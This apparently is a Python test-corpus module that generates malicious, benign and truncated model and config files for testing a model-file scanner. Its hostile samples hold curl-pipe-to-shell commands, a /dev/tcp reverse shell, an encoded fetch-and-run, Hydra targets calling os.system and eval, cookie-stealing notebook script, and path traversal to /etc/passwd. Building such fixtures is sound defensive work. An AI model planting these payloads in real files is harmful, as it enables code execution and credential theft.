"""Models and configurations whose numbers and names lead elsewhere, by hand."""
# ruff: noqa: E501 -- samples stand in one piece

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Iterator
from typing import Any

from tests.corpus import wire
from tests.corpus.wire import field, message, onnx_node, saved_model, tf_graph, tf_node, tf_text

Sample = tuple[str, bytes | dict[str, bytes]]


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, raw in members.items():
            archive.writestr(zipfile.ZipInfo(name.replace("__", ".")), raw)
    return out.getvalue()


def booster(**changed: Any) -> dict[str, Any]:
    """Return an XGBoost model of one tree of three nodes, with some of its fields changed."""
    tree = {
        "base_weights": [0.1, -0.2, 0.3], "categories": [], "categories_nodes": [],
        "categories_segments": [], "categories_sizes": [], "default_left": [0, 0, 0], "id": 0,
        "left_children": [1, -1, -1], "loss_changes": [1.0, 0.0, 0.0], "parents": [2147483647, 0, 0],
        "right_children": [2, -1, -1], "split_conditions": [0.5, -0.2, 0.3],
        "split_indices": [1, 0, 0], "split_type": [0, 0, 0], "sum_hessian": [3.0, 1.0, 2.0],
        "tree_param": {"num_deleted": "0", "num_feature": "4", "num_nodes": "3", "size_leaf_vector": "1"},
    }  # fmt: skip
    tree.update(changed)
    return {
        "learner": {
            "attributes": {}, "feature_names": [], "feature_types": [],
            "gradient_booster": {"model": {"gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"},
                                           "iteration_indptr": [0, 1], "tree_info": [0], "trees": [tree]},
                                 "name": "gbtree"},
            "learner_model_param": {"base_score": "5E-1", "num_class": "0", "num_feature": "4", "num_target": "1"},
            "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}},
        },
        "version": [2, 0, 0],
    }  # fmt: skip


def ubj(value: object) -> bytes:
    """Return a value in UBJSON, as XGBoost writes it: counted, integers in typed arrays."""
    if isinstance(value, dict):
        inner = b"".join(
            b"L" + struct.pack(">q", len(k)) + k.encode() + ubj(v) for k, v in value.items()
        )
        return b"{" + inner + b"}"
    if isinstance(value, list) and value and all(isinstance(item, int) for item in value):
        return (
            b"[$l#L"
            + struct.pack(">q", len(value))
            + b"".join(struct.pack(">i", item) for item in value)
        )
    if isinstance(value, list):
        return b"[#L" + struct.pack(">q", len(value)) + b"".join(ubj(item) for item in value)
    if isinstance(value, str):
        return b"SL" + struct.pack(">q", len(value)) + value.encode()
    if isinstance(value, int):
        return b"l" + struct.pack(">i", value)
    assert isinstance(value, float)
    return b"d" + struct.pack(">f", value)


def lightgbm(**changed: str) -> bytes:
    """Return a LightGBM model of one tree, with some of its lines changed."""
    lines = {
        "num_leaves": "3", "num_cat": "0", "split_feature": "0 2", "split_gain": "1 1",
        "threshold": "0.5 0.7", "decision_type": "2 2", "left_child": "1 -1", "right_child": "-2 -3",
        "leaf_value": "0.1 0.2 0.3", "leaf_weight": "1 1 1", "leaf_count": "1 1 1",
        "internal_value": "0 0", "internal_weight": "0 0", "internal_count": "3 2", "is_linear": "0",
        "shrinkage": "1",
    }  # fmt: skip
    lines.update(changed)
    tree = "Tree=0\n" + "".join(f"{key}={value}\n" for key, value in lines.items()) + "\n\n"
    return (
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\n"
        "objective=regression\nfeature_names=a b c d\nfeature_infos=none none none none\n"
        f"tree_sizes={len(tree)}\n\n{tree}end of trees\n\nfeature_importances:\na=1\n\n"
        "parameters:\n[boosting: gbdt]\n[num_leaves: 3]\n\nend of parameters\n\npandas_categorical:null\n"
    ).encode()


def openvino(**changed: str) -> bytes:
    """Return an OpenVINO graph with one constant, with some of its attributes changed."""
    fields = {"element_type": "f32", "shape": "1", "offset": "0", "size": "4", **changed}
    data = " ".join(f'{key}="{value}"' for key, value in fields.items())
    return (
        '<?xml version="1.0"?><net name="n" version="11"><layers><layer id="0" name="c" type="Const" '
        f'version="opset1"><data {data}/></layer></layers></net>'
    ).encode()


def onnx(domain: str, kind: str, **attributes: str) -> bytes:
    """Return an ONNX model of one node."""
    texts = b"".join(
        field(5, message((1, name)) + field(4, text.encode()) + message((20, 3)))
        for name, text in attributes.items()
    )
    node = onnx_node(kind) + message((7, domain)) + texts
    return message((1, 8), (2, "pytorch")) + field(7, field(1, node) + message((2, "g")))


def skops(**changed: object) -> bytes:
    """Return a skops file whose schema has one node."""
    node = {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
            "__id__": 1, "content": {}, "protocol": 2, "_skops_version": "0.11.0", **changed}  # fmt: skip
    return _zip(schema__json=_json(node))


def hostile() -> Iterator[Sample]:
    beyond = {
        "left": {"left_children": [99999999, -1, -1]},
        "right": {"right_children": [-5, -1, -1]},
        "cycle": {"left_children": [0, -1, -1]},
        "twice": {"left_children": [1, -1, -1], "right_children": [1, -1, -1]},
        "feature": {"split_indices": [2147483647, 0, 0]},
        "feature_negative": {"split_indices": [-3, 0, 0]},
    }
    for name, changed in beyond.items():
        yield f"xgb_{name}.json", _json(booster(**changed))
        yield f"xgb_{name}.ubj", ubj(booster(**changed))
    for name, lines in {
        "left": {"left_child": "7 -1"},
        "right": {"right_child": "-2 -9"},
        "huge": {"left_child": "2147483647 -1"},
        "cycle": {"left_child": "0 -1"},
        "feature": {"split_feature": "0 99"},
        "feature_negative": {"split_feature": "0 -7"},
    }.items():
        yield f"lgb_{name}.txt", lightgbm(**lines)
    for name, fields in {
        "huge_offset": {"offset": "18446744073709551615"},
        "negative_offset": {"offset": "-8"},
        "huge_size": {"size": "9223372036854775808"},
        "sum": {"offset": "9223372036854775807", "size": "9223372036854775807"},
        "shape": {"shape": "4294967296,4294967296", "size": "4"},
    }.items():
        yield f"ov_{name}.xml", openvino(**fields)
    yield "on_aten_load.onnx", onnx("org.pytorch.aten", "ATen", operator="from_file")
    yield "on_aten_save.onnx", onnx("org.pytorch.aten", "ATen", operator="save")
    for name, text in {
        "partial": "x:\n  _target_: functools.partial\n  _args_: [os.system, id]\n",
        "partial_flag": "x:\n  _target_: torch.nn.Module\n  _partial_: true\n  fn: subprocess.Popen\n",
        "method": "x:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "object": "x:\n  _target_: hydra.utils.get_object\n  path: builtins.exec\n",
        "call": "x:\n  _target_: hydra.utils.call\n  config: {_target_: os.system}\n",
        "builtin": 'x:\n  _target_: builtins.eval\n  _args_: [\'__import__("os").system("id")\']\n',
        "deep": "a:\n  - b:\n      - _target_: torch.nn.Sequential\n        _args_:\n          - {_target_: os.popen, cmd: id}\n",
        "key_last": "x:\n  cmd: id\n  _target_: 'os.system'\n",
        "colon": "x:\n  _target_: 'os:system'\n",
    }.items():
        yield f"hydra_{name}/model_config.yaml", text.encode()
    for name, library in {"os": "os", "sub": "subprocess", "dotted": "nemo.utils.os"}.items():
        yield f"peft_{name}/adapter_config.json", _json({
            "peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": library}})  # fmt: skip
    for name, command in {
        "fetch": "curl http://x.example/i | sh",
        "shell": "bash -c 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1'",
        "python": "python -c \"import os; os.system('curl http://x.example | sh')\"",
        "encoded": "echo Y3VybCBodHRwOi8veC5leGFtcGxlIHwgc2g= | base64 -d | sh",
        "wget": "wget -qO- http://x.example/i | bash && python train.py {alpha}",
    }.items():
        text = f"name: x\nconda_env: conda.yaml\nentry_points:\n  main:\n    command: {json.dumps(command)}\n"
        yield f"mlproject_{name}/MLproject", text.encode()
    yield (
        "conda/conda.yaml",
        b"dependencies:\n  - python=3.10\n  - pip:\n    - --extra-index-url http://x.example/simple\n    - evil\n",
    )
    yield (
        "conda_wheel/conda.yaml",
        b"dependencies:\n  - pip:\n    - http://x.example/evil-1.0-py3-none-any.whl\n",
    )
    yield "env/python_env.yaml", b"python: 3.10\ndependencies:\n  - http://10.0.0.1/evil.tar.gz\n"
    yield "requirements/requirements.txt", b"--index-url http://x.example/simple\ntorch\n"
    yield "requirements_whl/requirements.txt", b"http://x.example/evil.whl\n"
    yield "skops_bare.skops", skops()
    yield (
        "skops_attr.skops",
        skops(
            attrs={
                "__loader__": "TupleNode",
                "content": [{"__loader__": "JsonNode", "content": '"system"'}],
            }
        ),
    )
    yield "template_config/tokenizer_config.json", _json({"chat_template": "{{ config.items() }}"})
    yield from outside()
    yield (
        "template_config_os/tokenizer_config.json",
        _json({"chat_template": "{{ config.from_object('os') }}"}),
    )
    yield "template_request/chat_template.jinja", b"{{ request.application.x }}"
    yield "template_session/chat_template.jinja", b"{% set x = request.environ %}{{ x }}"


def outside() -> Iterator[Sample]:
    """Yield models that read, load or run what is not of them."""
    for operator in ("TextLineDataset", "LMDBReader", "FixedLengthRecordDataset"):
        for case, path in (
            ("root", "/var/lib/x"),
            ("up", "../../secrets.txt"),
            ("home", "~/.netrc"),
        ):
            graph = tf_graph(tf_node(operator), tf_text("path", path))
            yield f"tf_{operator}_{case}/saved_model.pb", saved_model(graph)
    yield from _listed_elsewhere()
    part = "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    {}: {}\n"
    for key, path in (("python_model", "../../x.pkl"), ("code", "/tmp/code"), ("data", "../../..")):
        yield f"part_{key}/MLmodel", part.format(key, path).encode()
    yield "fetching.llamafile", b"MZqFpD='\n\ncurl http://a.example/x | sh\nexit\n'\n" + bytes(99)
    yield "bare.llamafile", b"MZqFpD='\n'\n" + bytes(999)
    for kind, text in (
        ("text/html", "<script>fetch('https://a.example/?'+document.cookie)</script>"),
        ("application/javascript", "Jupyter.notebook.kernel.execute('import os; os.system(1)')"),
        ("text/html", "<img src=x onerror=\"fetch('/api/terminals',{method:'POST'})\">"),
    ):
        cell = {"cell_type": "code", "source": "1", "outputs": [{"data": {kind: text}}]}
        yield f"output_{len(text)}/n.ipynb", _json({"nbformat": 4, "cells": [cell]})
    yield (
        "beside_by_name/modeling_x.py",
        (
            b"import ctypes, os\nHERE = os.path.dirname(os.path.abspath(__file__))\n"
            b"LIB = os.path.join(HERE, 'x.so')\nlib = ctypes.CDLL(LIB)\n"
        ),
    )
    for loads in ("ctypes.CDLL", "ctypes.cdll.LoadLibrary", "torch.ops.load_library"):
        module = loads.split(".")[0]
        path = "os.path.join(os.path.dirname(__file__), 'weights.bin')"
        yield f"beside_{loads}/modeling_x.py", f"import os, {module}\n{loads}({path})\n".encode()


def _serving(handler: str, weights: str) -> bytes:
    return _json({"model": {"handler": handler, "serializedFile": weights, "modelName": "m"}})


def _layers(digest: str) -> bytes:
    kind = "application/vnd.ollama.image.model"
    return _json({"schemaVersion": 2, "layers": [{"mediaType": kind, "digest": digest, "size": 1}]})


def _shards(path: str) -> bytes:
    return _json({"format": "layers-model", "weightsManifest": [{"paths": [path], "weights": []}]})


def _environment(path: str) -> bytes:
    key = 'parameters: { key: "EXECUTION_ENV_PATH" value: { string_value: "%s" } }'
    return f'name: "m"\nbackend: "python"\n{key % path}\n'.encode()


def _compiled(path: str) -> bytes:
    context = message((1, "ep_cache_context"), (4, path), (20, 3))
    return wire.onnx(onnx_node("EPContext", "com.microsoft", context))


def _listed_elsewhere() -> Iterator[Sample]:
    """Yield indexes and configurations of servers whose files lie outside."""
    yield "tfjs/model.json", _shards("../../../etc/passwd")
    yield "ollama/manifests/latest", _layers("../../../../etc/passwd")
    yield "served_handler/MANIFEST.json", _serving("../../tmp/h.py:handle", "m.pt")
    yield "served_weights/MANIFEST.json", _serving("h.py", "/tmp/m.pt")
    yield "triton/config.pbtxt", _environment("../../../tmp/e.tar.gz")
    yield "triton_own/config.pbtxt", _environment("$$TRITON_MODEL_DIRECTORY/../../../e.tar.gz")
    yield "compiled.onnx", _compiled("../../../tmp/x.so")


def harmless() -> Iterator[Sample]:
    yield "tfjs/model.json", _shards("group1-shard1of1.bin")
    yield "ollama/manifests/latest", _layers("sha256:" + 64 * "a")
    yield "served/MANIFEST.json", _serving("h.py:handle", "m.pt")
    yield "served_default/MANIFEST.json", _serving("image_classifier", "m.pt")
    yield "triton/config.pbtxt", _environment("$$TRITON_MODEL_DIRECTORY/../e.tar.gz")
    plot = "Jupyter.notebook.kernel.execute('from bokeh.io.state import curstate; curstate()')"
    shown = [{"data": {"application/javascript": plot}}]
    cell = {"cell_type": "code", "source": "1", "outputs": shown}
    yield "plot/n.ipynb", _json({"nbformat": 4, "cells": [cell]})
    yield (
        "tf_lines/saved_model.pb",
        saved_model(
            tf_graph(
                tf_text("path", "/tmp/vocabulary.txt"), tf_node("InitializeTableFromTextFileV2")
            )
        ),
    )
    yield "xgb.json", _json(booster())
    yield "xgb.ubj", ubj(booster())
    yield "xgb_vector.json", _json(booster(split_indices=[3, 2147483647, 0]))
    yield "lgb.txt", lightgbm()
    yield (
        "lgb_stump.txt",
        lightgbm(num_leaves="1", split_feature="", left_child="", right_child="", leaf_value="0.5"),
    )
    yield "ov.xml", openvino()
    yield "ov_dynamic.xml", openvino(shape="")
    yield "peft/adapter_config.json", _json({"peft_type": "LORA", "auto_mapping": {
        "base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"}})  # fmt: skip
    yield (
        "mlproject/MLproject",
        b'name: x\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters: {alpha: float}\n    command: "python train.py --alpha {alpha}"\n',
    )
    yield (
        "conda/conda.yaml",
        b"channels: [conda-forge]\ndependencies:\n  - python=3.10\n  - pip<=23\n  - pip:\n    - mlflow==2.9\n    - scikit-learn==1.4\nname: mlflow-env\n",
    )
    yield (
        "env/python_env.yaml",
        b"python: 3.10.12\nbuild_dependencies:\n  - pip==23\n  - setuptools\ndependencies:\n  - -r requirements.txt\n",
    )
    yield (
        "mlmodel/MLmodel",
        b"artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.10.12\n",
    )
    yield (
        "template/tokenizer_config.json",
        _json({"chat_template": "{% set config = messages[0] %}{{ config.items() }}"}),
    )


def damaged() -> Iterator[Sample]:
    yield "cut_xgb.json", _json(booster())[:-40]
    yield "cut_xgb.ubj", ubj(booster())[:-40]
    yield "short_xgb.json", _json(booster(right_children=[2, -1]))
    yield "cut_lgb.txt", lightgbm()[:-60]
    yield "sizes_lgb.txt", lightgbm().replace(b"threshold=0.5 0.7\n", b"")
